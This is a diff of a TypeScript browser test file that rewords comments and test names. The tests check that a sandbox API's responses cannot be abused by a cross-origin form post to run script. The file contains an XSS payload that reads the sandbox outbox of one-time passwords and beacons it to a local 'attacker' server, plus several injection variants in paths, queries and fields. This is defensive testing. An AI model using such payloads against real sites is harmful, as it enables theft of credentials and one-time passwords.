@@ -1,5 +1,6 @@
-// The API answers JSON under the label of HTML, and an answer repeats what was sent. A page of another origin can post a form, and
-// the answer is then shown as a page of the sandbox's origin, where one-time passwords can be read. In a real browser, none is.
+// The API can send JSON with the Content-Type of HTML, and a response repeats values of the request. A page of another origin
+// can post a form. A browser would then show the response as a page of the sandbox's origin, where a script can read one-time
+// passwords. These tests check in a real browser that this is impossible.
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { text } from "node:stream/consumers";
@@ -23,7 +24,7 @@ const chromium = (await launchChromium()) as
     }
   | undefined;
 
-/** What a page of another origin has been sent, and the page that it shows. */
+/** The data that a page of another origin received. */
 const stolen: string[] = [];
 let attackPage = "";
 let attacker: Server;
@@ -47,7 +48,7 @@ beforeEach(() => {
 
 const attackerUrl = () => `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
 
-/** A script that reads the outbox of the origin that it runs on, and sends it away; without a quote that JSON would escape. */
+/** A script that reads the outbox of its origin and sends it away. It contains no quote that JSON would escape. */
 const script = () =>
   "<script>var r=new XMLHttpRequest();r.open('GET','/__sandbox/outbox',false);r.send();" +
   `navigator.sendBeacon('${attackerUrl()}/stolen',r.responseText)</script>`;
@@ -71,7 +72,7 @@ function pageOf(url: string, { method = "POST", action, enctype, field, target =
     </form><script>document.forms[0].submit()</script>`;
 }
 
-/** Lets the browser open the attacker's page, which posts its form, and waits until the answer is shown. */
+/** Opens the attacker's page, which posts its form, and waits until the browser shows the response. */
 async function attack(url: string, form: Form): Promise<void> {
   if (chromium === undefined) throw new Error("There is no Chromium on this machine.");
   attackPage = pageOf(url, form);
@@ -79,7 +80,7 @@ async function attack(url: string, form: Form): Promise<void> {
   await page.goto(attackerUrl());
   if (form.target === undefined) await page.waitForURL(new RegExp(`^${url}/`));
   await page.waitForLoadState();
-  // A beacon takes its way while the next page is loaded.
+  // The browser sends a beacon while it loads the next page.
   await page.goto(`${attackerUrl()}/next`);
   await page.close();
 }
@@ -105,7 +106,7 @@ const FORMS: readonly [name: string, form: () => Form][] = [
     () => ({ action: called, field: `Content[${inAttribute(script())}]` }),
   ],
   ["a 404 for a path with the script in it", () => ({ action: scriptInPath() })],
-  ["the same, asked for by a link", () => ({ action: scriptInPath(), method: "GET" })],
+  ["the same, requested by a link", () => ({ action: scriptInPath(), method: "GET" })],
   ["a 404 for a query with the script in it", () => ({ action: `${EMAIL_PATH}?x=${scriptInPath()}` })],
   ["a 405 for a GET", () => ({ action: called, method: "GET" })],
   ["a Language with the script in it", () => ({ action: `${called}&Language=${scriptInPath()}` })],
@@ -128,7 +129,7 @@ describe.skipIf(!chromium)(
     ];
 
     test.each(refusing)(
-      "runs no script of its own, where the options are %j",
+      "runs no script in the response, with the options %j",
       { timeout: 120_000 },
       (options) =>
         withServer(options, async ({ url }) => {
@@ -139,9 +140,9 @@ describe.skipIf(!chromium)(
     );
 
     test.each(["application/json", "text/json", "text/html", "application/xml", "text/xml"])(
-      "runs no script of its own, where the answer is %s",
+      "runs no script in a response of type %s",
       (accept) => {
-        // A browser asks for a page.
+        // A browser requests a page.
         const answeredAs =
           (handle: Handle): Handle =>
           (request) =>
@@ -159,7 +160,7 @@ describe.skipIf(!chromium)(
       },
     );
 
-    test("would run it, and read the outbox, without the policy that each answer has", () => {
+    test("would run the script and read the outbox without the policy of each response", () => {
       const unprotected =
         (handle: Handle): Handle =>
         async (request) => {
